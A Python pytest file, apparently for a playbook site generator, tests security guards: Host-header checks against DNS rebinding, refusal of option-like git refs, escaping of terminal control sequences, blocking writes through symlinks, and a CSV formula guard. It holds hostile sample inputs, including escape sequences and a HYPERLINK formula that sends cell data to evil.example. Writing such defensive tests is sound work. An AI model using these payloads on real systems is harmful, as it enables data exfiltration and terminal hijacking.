"""The commands around the build: the preview server, git refs, what the command line echoes,
scaffolding, time zones and CSV cells (trust boundary, round 3). Each case failed before its fix."""

from __future__ import annotations

import http.client
import os
import re
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from generator.render.files import exports

from ..conftest import BUILD_EPOCH, ROOT
from .conftest import assert_refused, base_project, playbooks


@pytest.fixture()
def project(tmp_path) -> Path:
    return base_project(tmp_path / "project")


# --- playbooks serve: only this machine's names -------------------------------------------------


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def status(port: int, host: str | None) -> int:
    """The status of GET / on the preview, sent with this Host header (None: no Host header)."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        connection.putrequest("GET", "/", skip_host=True)
        if host is not None:
            connection.putheader("Host", host)
        connection.endheaders()
        return connection.getresponse().status
    finally:
        connection.close()


def test_the_preview_answers_only_its_own_host_names(project):
    port = free_port()
    env = {**os.environ, "PYTHONPATH": str(ROOT), "SOURCE_DATE_EPOCH": BUILD_EPOCH}
    server = subprocess.Popen([sys.executable, "-m", "generator", "serve", "--root", str(project), "--dev-addr",
                               f"127.0.0.1:{port}"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env)
    try:
        deadline = time.monotonic() + 90
        while True:
            try:
                if status(port, f"127.0.0.1:{port}") == 200:
                    break
            except OSError:
                pass
            assert time.monotonic() < deadline and server.poll() is None, "the preview did not start"
            time.sleep(0.2)
        for good in (f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST:{port}", f"[::1]:{port}", "localhost"):
            assert status(port, good) == 200, good
        # DNS rebinding: a page of evil.example, its name now pointing at 127.0.0.1
        for bad in (f"evil.example:{port}", "evil.example", f"localhost.evil.example:{port}", f"127.0.0.1.nip.io:{port}",
                    f"localhost:{port + 1}", f"127.0.0.1:{port}@evil.example", ""):
            assert status(port, bad) == 421, bad
        assert status(port, None) == 421
    finally:
        server.terminate()
        server.wait(timeout=120)


# --- affected --base ------------------------------------------------------------------------------


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-c", "user.name=T", "-c", "user.email=t@example.org", *args], cwd=repo, check=True,
                          capture_output=True, text=True).stdout


@pytest.mark.parametrize("base", ["--fork-point", "-h", "--output=/tmp/x", "-"])
def test_affected_refuses_a_base_that_git_would_read_as_an_option(project, base):
    git(project, "init", "-q", "-b", "main")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "start")
    result = playbooks("affected", "--root", project, f"--base={base}")
    assert_refused(result, "--base:1:1:", "is not a git ref")
    assert result.stdout == ""


def test_affected_says_when_git_fails(project):
    git(project, "init", "-q", "-b", "main")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "start")
    result = playbooks("affected", "--root", project, "--base=no-such-branch")
    assert_refused(result, "--base:1:1: git merge-base failed")


# --- what the command line echoes ------------------------------------------------------------------


@pytest.mark.parametrize("args", [
    ["build", "--all-vendors", "--site-dir", "SITE", "--shard", "\x1b]0;pwned\x07\x1b[2J1/2"],
    ["build", "--all-vendors", "--site-dir", "SITE", "--shard", "1/2\r\x1b[31mfake"],
    ["build", "\x1b[2Junexpected"],  # argparse's own error echoes it
    ["new", "vendor", "\x1b[31mbad\u202eslug"],
])
def test_echoed_arguments_cannot_drive_the_terminal(project, tmp_path, args):
    args = [str(tmp_path / "site") if arg == "SITE" else arg for arg in args]
    result = playbooks(*args, "--root", project)
    assert result.returncode in (1, 2), result.stderr
    assert "Traceback" not in result.stderr
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", result.stderr), repr(result.stderr)
    assert "\\x1b" in result.stderr  # shown, escaped


def test_a_folder_named_with_escapes_is_echoed_escaped(project, tmp_path):
    out = tmp_path / "docs\x1b]0;pwned\x07"
    result = playbooks("generate", "--root", project, "--out", out)
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\\x1b]0;pwned\\x07" in result.stdout, repr(result.stdout)


# --- new vendor / new play write only inside the project ------------------------------------------------


def test_new_vendor_does_not_write_through_a_linked_folder(project, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    vendors = project / "content" / "vendors"
    for existing in vendors.iterdir():
        (outside / existing.name).write_bytes(existing.read_bytes())
        existing.unlink()
    vendors.rmdir()
    vendors.symlink_to(outside)
    before = sorted(p.name for p in outside.iterdir())
    result = playbooks("new", "vendor", "newco", "--root", project)
    assert_refused(result, "content/vendors:1:1: this folder leads outside the project")
    assert sorted(p.name for p in outside.iterdir()) == before


def test_new_play_does_not_write_through_a_linked_playbook(project, tmp_path):
    area = next(p for p in (project / "playbooks").iterdir() if p.is_dir())
    outside = tmp_path / "outside-area"
    area.rename(outside)
    area.symlink_to(outside)
    before = sorted(p.name for p in outside.iterdir())
    result = playbooks("new", "play", f"{area.name}/brand-new", "--root", project)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert sorted(p.name for p in outside.iterdir()) == before


def test_new_vendor_does_not_follow_a_link_in_the_files_place(project, tmp_path):
    target = tmp_path / "victim.txt"
    target.write_text("keep", "utf-8")
    (project / "content" / "vendors" / "newco.yml").symlink_to(target)
    result = playbooks("new", "vendor", "newco", "--root", project)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert target.read_text("utf-8") == "keep"


# --- time zones with one meaning ------------------------------------------------------------------------


@pytest.mark.parametrize("zone", ["localtime", "Factory", "posix/Europe/Berlin", "right/Europe/Berlin", "posixrules"])
def test_a_time_zone_that_depends_on_the_machine_is_refused(project, zone):
    org = project / "content" / "organization.yml"
    org.write_text(org.read_text("utf-8").replace("timezone: Europe/Berlin", f"timezone: {zone}"), "utf-8")
    result = playbooks("validate", "--root", project)
    assert_refused(result, f"content/organization.yml:2:11: `{zone}`")
    vendor = project / "content" / "vendors" / "acme.yml"
    org.write_text(org.read_text("utf-8").replace(f"timezone: {zone}", "timezone: Europe/Berlin"), "utf-8")
    vendor.write_text(vendor.read_text("utf-8").replace("timezone: Asia/Kolkata", f"timezone: {zone}"), "utf-8")
    assert_refused(playbooks("validate", "--root", project), f"content/vendors/acme.yml:9:13: `{zone}`")


# --- CSV cells ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("lead", [" ", "  ", "\u00a0", "\u3000", "\u2003", " \u00a0 ", "\u2028"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_white_space_before_a_formula_does_not_get_past_the_guard(lead, sign):
    value = f'{lead}{sign}HYPERLINK("https://evil.example/?"&A1,"x")'
    assert exports.safe_cell(value) == "'" + value
